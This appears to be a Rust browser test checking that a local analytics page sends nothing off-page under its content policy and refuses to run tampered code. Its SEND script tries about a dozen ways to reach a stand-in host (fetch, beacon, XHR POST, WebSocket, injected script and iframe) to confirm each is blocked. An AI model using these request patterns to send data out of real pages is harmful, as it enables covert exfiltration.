//! Nothing leaves the page, and nothing but the page that was published runs, as seen from outside.

use crate::{Browser, heard};
use serde_json::Value;
use std::fs;
use std::path::Path;

/// What may be changed on the way.
pub const PARTS: [&str; 3] = ["wasm", "script", "view"];

const LIST: &str =
    "customer,month,mrr\nACME-CONFIDENTIAL,2024-01,100\nACME-CONFIDENTIAL,2024-02,80\n";

/// A page without a lock, and a list to choose.
pub fn write(world: &Path) {
    let open = "<!doctype html><title>No lock</title><link rel=\"icon\" href=\"data:,\">";
    fs::write(world.join("open.html"), open).unwrap();
    fs::write(world.join("list.csv"), LIST).unwrap();
}

/// Each way of sending something. The page's own policy tells when the browser has answered all.
const SEND: &str = r#"
const attempts = [
  () => fetch("http://elsewhere.example/fetch").catch(() => {}),
  () => { new Image().src = "http://elsewhere.example/image.png"; },
  () => new WebSocket("ws://elsewhere.example/socket"),
  () => navigator.sendBeacon("http://elsewhere.example/beacon", "x"),
  () => { const r = new XMLHttpRequest(); r.open("POST", "http://elsewhere.example/request"); r.send("x"); },
  () => new EventSource("http://elsewhere.example/events"),
  () => document.body.append(Object.assign(document.createElement("iframe"), { src: "http://elsewhere.example/frame" })),
  () => document.body.append(Object.assign(document.createElement("script"), { src: "http://elsewhere.example/script.js" })),
  () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "http://elsewhere.example/a.css" })),
  () => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "http://elsewhere.example/prefetch" })),
  () => document.body.append(Object.assign(document.createElement("video"), { src: "http://elsewhere.example/video" })),
  () => new Worker("./worker.js"),
  () => fetch("./own").catch(() => {}),
];
for (const attempt of attempts) try { attempt(); } catch {}
return 0;
"#;

/// A list is dropped, computed, taken along and shared, and other ways out are tried; the proxy has
/// heard of nothing but the page itself.
pub fn nothing_leaves(browser: &Browser) {
    // What the proxy would hear of.
    browser.open("open.html");
    browser.script(SEND);
    let ways = [
        "fetch",
        "image.png",
        "beacon",
        "request",
        "frame",
        "script.js",
    ];
    hears(browser, |asked| {
        let hears = |way: &&str| asked.contains(&["elsewhere.example/", way].concat());
        ways.iter().all(hears) && asked.contains("/own")
    });

    browser.open("tools/");
    browser.started();
    browser.site.asked();
    use_everything(browser);
    browser.script(SEND);
    browser.click("[data-action=open-lock]");
    browser.click("[data-action=prove]");
    browser.until("each attempt is refused", || {
        browser.script("return document.querySelectorAll('#proof [data-refused=yes]').length") == 3
    });
    // What comes last is heard last: by then everything before it would have been.
    browser.open("open.html");
    let asked = hears(browser, |asked| {
        asked.contains("GET http://localhost/open.html")
    });
    let mut asked: Vec<&str> = asked.lines().collect();
    asked.retain(|line| !is_errand(line));
    assert_eq!(asked, ["GET http://localhost/open.html"]);
}

/// What browsers do by themselves: they fetch a page's icon and manifest when they like, and ask
/// their makers for news.
fn is_errand(line: &str) -> bool {
    let makers = [
        ".google.com:443",
        ".googleapis.com:443",
        ".gvt1.com:443",
        ".mozilla.com:443",
        ".mozilla.org:443",
        ".mozilla.net:443",
        ".firefox.com:443",
    ];
    let beside = ["/manifest.webmanifest", ".ico"];
    line.starts_with("CONNECT ") && makers.iter().any(|host| line.ends_with(host))
        || line.starts_with("GET http://localhost/")
            && beside.iter().any(|file| line.ends_with(file))
}

/// Waits until what the proxy was asked for is as expected; gives it, a line for each request.
fn hears(browser: &Browser, expect: impl Fn(&str) -> bool) -> String {
    let mut asked = Vec::new();
    browser.until("it is asked for", || {
        asked.extend(browser.site.asked());
        expect(&asked.join("\n"))
    });
    asked.join("\n")
}

fn use_everything(browser: &Browser) {
    browser.type_into("churn", "12345");
    browser.click("#tab-list");
    // Dropped, …
    browser.script(&format!(
        "const carried = new DataTransfer();
         carried.items.add(new File([{LIST:?}], 'dropped.csv'));
         const options = {{ dataTransfer: carried, bubbles: true, cancelable: true }};
         document.querySelector('h1').dispatchEvent(new DragEvent('drop', options));
         return 0"
    ));
    browser.says("nrr", "80.0%");
    assert!(browser.text("#source-words").starts_with("dropped.csv"));
    // … and chosen.
    let file = crate::world().join("list.csv");
    browser.send("[name=customer_list]", &file.display().to_string());
    browser.until("it is read", || {
        browser.text("#source-words").starts_with("list.csv")
    });
    browser.says("nrr", "80.0%");
    browser.until("the months are drawn", || {
        browser.has("#months-table tbody tr")
    });
    // Exported: what is saved is noted on its way to the disk.
    browser.script(
        "window.made = []; const make = URL.createObjectURL;
         URL.createObjectURL = (blob) => { blob.text().then((text) => made.push(text)); return make.call(URL, blob); };
         return 0",
    );
    for (button, start) in [
        ("[data-download=json]", "{"),
        (
            "[data-download=csv][data-table=months]",
            "month,revenue_start",
        ),
        ("#share [data-download=svg]", "<svg"),
    ] {
        browser.script("made.length = 0; return 0");
        browser.click_until(button, || {
            let made = browser.script("return made[0] ?? null");
            made.as_str().is_some_and(|made| made.starts_with(start))
        });
    }
    // Shared.
    for button in ["#share [data-copy=link]", "[data-copy='tsv:months']"] {
        // Words that are soon followed by others are heard all the same.
        browser.script(heard::LISTEN);
        let mut said = Value::Null;
        browser.click_until(button, || {
            said = browser.script(heard::HEARD);
            ["Copied", "blocked"]
                .iter()
                .any(|word| said.as_str().unwrap().contains(word))
        });
        assert!(
            said.as_str().unwrap().contains("Copied"),
            "{button}: {said}"
        );
    }
}

/// The wasm, the program's script, or the script that chooses the view.
pub fn what_was_changed_does_not_run(browser: &Browser) {
    for part in PARTS {
        browser.open(&format!("{part}/"));
        if part == "view" {
            // The rest is as it was published.
            browser.started();
        } else {
            browser.until("it says why", || browser.has("html[data-failed=changed]"));
            assert!(
                browser
                    .text("#load-failed")
                    .contains("not the program that was published")
            );
            assert!(!browser.has("html[data-started]"));
        }
        let ran = browser.script("return document.documentElement.dataset.changed ?? null");
        assert_eq!(ran, Value::Null, "{part}");
    }
}
